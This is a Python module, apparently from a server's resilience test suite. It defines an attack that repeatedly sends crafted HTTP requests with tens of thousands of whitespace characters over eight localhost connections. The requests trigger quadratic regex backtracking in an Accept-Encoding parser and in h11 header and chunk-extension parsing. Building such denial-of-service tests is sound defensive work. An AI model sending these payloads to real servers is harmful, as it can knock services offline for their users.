"""Headers on which a regular expression that backtracks takes quadratic time.

They need no token: the list of content codings of the application, a field of white space before a
forbidden character in h11, and a chunk extension of white space before a bare line feed in h11.
"""

from __future__ import annotations

import asyncio
from contextlib import suppress
from itertools import cycle

from . import Attack, Target

#: The number of connections at a time.
_CONNECTIONS = 8
#: White space that fits into 16 KiB of headers, and white space that does not.
_FITTING, _LARGE = " " * 16_000, " " * 60_000
_GET = "GET /v1/notes HTTP/1.1\r\nHost: localhost\r\n"
_PUT = "PUT /v1/notes/entries/a HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
_REQUESTS = (
    f"{_GET}Accept-Encoding: ,a{_FITTING}!\r\n\r\n",
    f"{_GET}Accept-Encoding: ,a{_LARGE}!\r\n\r\n",
    f"{_GET}X:{_FITTING}\0\r\n\r\n",
    f"{_GET}X:{_LARGE}\0\r\n\r\n",
    f"{_PUT}1;{_LARGE}\n\r\n",
)


async def run(target: Target) -> None:
    """Send the headers again and again."""
    requests = cycle(request.encode() for request in _REQUESTS)

    async def send() -> None:
        while True:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
                writer.write(next(requests))
                with suppress(asyncio.TimeoutError):
                    await asyncio.wait_for(reader.read(100), 1)
                writer.close()
            await asyncio.sleep(0.01)

    await asyncio.gather(*(send() for _ in range(_CONNECTIONS)))


ATTACK = Attack(
    run,
    memory=48,
    control=(
        "from uvicorn.protocols.http.h11_impl import H11Protocol; "
        "from treehub_level.http.server.connections import TimedConnection; "
        "TimedConnection.data_received = H11Protocol.data_received; "
    ),
)
